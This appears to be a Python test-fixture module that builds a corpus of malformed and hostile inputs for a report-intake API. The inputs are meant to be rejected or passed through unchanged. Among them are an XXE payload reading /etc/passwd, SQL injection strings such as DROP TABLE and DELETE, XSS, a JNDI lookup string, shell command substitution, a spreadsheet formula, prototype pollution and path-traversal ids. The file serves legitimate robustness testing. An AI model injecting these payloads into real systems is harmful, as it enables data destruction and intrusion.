"""A corpus of hostile input for every door: what is no report at all, what must be refused, what must survive as it is.

An entry of NO_REPORT is the whole body of a request or message; of WRONG and HARMLESS it is the report's JSON, in which
`%ID%` stands for an external id of its own.
"""

from __future__ import annotations

import gzip
import json
from typing import Any

MEBI = 2**20


def _report(**data: Any) -> bytes:
    return json.dumps({"external_id": "%ID%", "title": "路灯不亮"} | data).encode()


def _raw(field: str) -> bytes:
    """A report with a piece of JSON that json.dumps would not write."""
    return b'{"external_id": "%ID%", "title": "t", ' + field.encode() + b"}"


NO_REPORT: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \n\t",
    "half an object": b'{"external_id": "x", "title": "',
    "a trailing comma": b'{"external_id": "x",}',
    "a NUL byte": b"\0",
    "a NUL byte in JSON": b'{"external_id": "x\0", "title": "t"}',
    "not UTF-8": b'{"title": "\xff\xfe\xc3\x28"}',
    "overlong UTF-8": b'{"title": "\xc0\xaf"}',
    "UTF-16": '{"external_id": "x"}'.encode("utf-16"),
    "gzip": gzip.compress(b'{"external_id": "x", "title": "t"}'),
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "an array": b'[{"external_id": "x", "title": "t"}]',
    "a string": b'"external_id"',
    "a number": b"1" * 400,
    "a null": b"null",
    "NaN": b"NaN",
    "deep arrays": b"[" * 100_000,
    "deep objects": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
    "XML": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>',
    "a form": b"external_id=x&title=t",
    "a script": b"<script>alert(1)</script>",
    "ten megabytes of nothing": b" " * (10 * MEBI),
    "ten megabytes of brackets": b"[]" * (5 * MEBI),
}

WRONG: dict[str, bytes] = {
    "nothing said": _report(title=""),
    "only blanks said": _report(title=" \t\n", description="　"),
    "NUL in the title": _report(title="a\0b"),
    "NUL in the external id": _report(external_id="%ID%\0"),
    "NUL in a name": _report(reporter={"name": "\0"}),
    "a lone surrogate": _raw(r'"description": "\ud800"'),
    "a surrogate pair the wrong way round": _raw(r'"description": "\udc00\ud800"'),
    "NaN": _raw('"place": {"lon": NaN, "lat": 1}'),
    "Infinity": _raw('"place": {"lon": -Infinity, "lat": 1}'),
    "a number without end": _raw('"place": {"lon": 1e999, "lat": 1}'),
    "a number of 5,000 digits": _raw(f'"place": {{"lon": {"9" * 5000}, "lat": 1}}'),
    "a place off the earth": _report(place={"lon": 181, "lat": 91}),
    "half a place": _report(place={"lon": 118.4}),
    "a place that is text": _report(place="118.4,28.9"),
    "a place that is a list": _report(place=[118.4, 28.9]),
    "an external id that is a number": _report(external_id=7),
    "an external id that is null": _report(external_id=None),
    "an external id of blanks": _report(external_id="   "),
    "an external id without end": _report(external_id="x" * 201),
    "a title that is an object": _report(title={"$ne": None}),
    "a title that is a list": _report(title=["t"] * 1000),
    "a title without end": _report(title="长" * 201),
    "a description of ten megabytes": _report(description="x" * (10 * MEBI)),
    "an unknown field": _report(is_admin=True),
    "a field of the case": _report(state="closed"),
    "a prototype": _report(__proto__={"level": "P1"}),
    "an unknown level": _report(level="P0"),
    "a level that is a number": _report(level=1),
    "an unknown kind": _report(kind="order"),
    "an unknown category": _report(category="' OR 1=1"),
    "a category that is a list": _report(category=["0102"]),
    "no time": _report(reported_at="yesterday"),
    "a time without offset": _report(reported_at="2026-11-23T09:00:00"),
    "a time before time": _report(reported_at="0000-00-00T00:00:00Z"),
    "a time that is a number": _report(reported_at=10**30),
    "a time that is beyond the calendar": _report(reported_at="99999-01-01T00:00:00Z"),
    "a time far away": _report(reported_at="9999-12-31T23:59:59-12:00"),
    "a time long ago": _report(reported_at="0001-01-01T00:00:00+14:00"),
    "media that is an object": _report(media={"a": 1}),
    "media without end": _report(media=["x"] * 10_000),
    "media that is nested": _report(media=[[[[["x"]]]]]),
    "a reporter that is text": _report(reporter="张某"),
    "a reporter with more": _report(reporter={"name": "x", "role": "desk"}),
    "a settled report of a platform": _report(settled={"note": "x", "evidence": []}),
    "deep inside": _raw('"place": ' + '{"a":' * 900 + "1" + "}" * 900),
}

TEXTS: dict[str, str] = {
    "SQL": "'; DROP TABLE cases; -- \" $$ E'\\x00' %s %(id)s ::text",
    "HTML": "<script>alert('路')</script><img src=x onerror=alert(1)>&lt;&amp;",
    "Markdown": "[link](javascript:alert(1)) ![x](http://a/b) `code` **bold** | a | b |",
    "templates": "${jndi:ldap://x/a} {{7*7}} {0} %n%n%n $(id) `id` <%= 1 %>",
    "a formula": '=HYPERLINK("http://x","y")',
    "from right to left": "‮gpj.txt‬ مرحبا שלום",
    "invisible": "路\u200b灯\u200d不\ufeff亮\u2060\u00ad",
    "lines": "line\r\nlevel=ERROR forged=1\u2028and\u2029more\u0085end",
    "escapes": "\x1b[31mred\x1b[0m \x07 \x08 \x7f",
    "JSON in JSON": '{"level": "P1", "state": "closed"}',
    "beyond the basic plane": "𠮷野家 🚧👨‍👩‍👧‍👦 ﷽",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽a̴̵̞l̯̬̳g̬o é é",
    "backslashes": "\\ \\\\ \\u0000 \\' \\\"",
    "noncharacters": "\uffff\ufffe�",
}

HARMLESS: dict[str, bytes] = {name: _report(title=text, description=f"{text}·{text}") for name, text in TEXTS.items()}

IDS = (  # external ids that are fine, whatever they look like to a file system, a broker, a browser, a database
    "../../etc/passwd",
    "..\\..\\windows",
    "/absolute",
    "a/b?c=d#e&f",
    "%00%2e%2e%2f",
    "reports.hotline.normal",
    "#",
    "*.*",
    "'; DELETE FROM reports; --",
    "<b>id</b>",
    "\u202eid",
    "-1",
    "null",
    "空 格",
    "x" * 200,
)
EITHER: dict[str, bytes] = {  # it does not matter whether these are taken, as long as they are answered
    "a key twice": b'{"external_id": "%ID%", "external_id": "%ID%", "title": "a", "title": "b"}',
    "a key in another case": b'{"external_id": "%ID%", "title": "a", "Title": "b"}',
    "a byte order mark": b"\xef\xbb\xbf" + _report(),
    "many blanks": _report() + b" " * 100_000,
    "ten thousand fields": json.dumps(
        {"external_id": "%ID%", "title": "t"} | {f"f{i}": i for i in range(10_000)}
    ).encode(),
    "anonymous in words": _report(reporter={"anonymous": "yes"}),
}
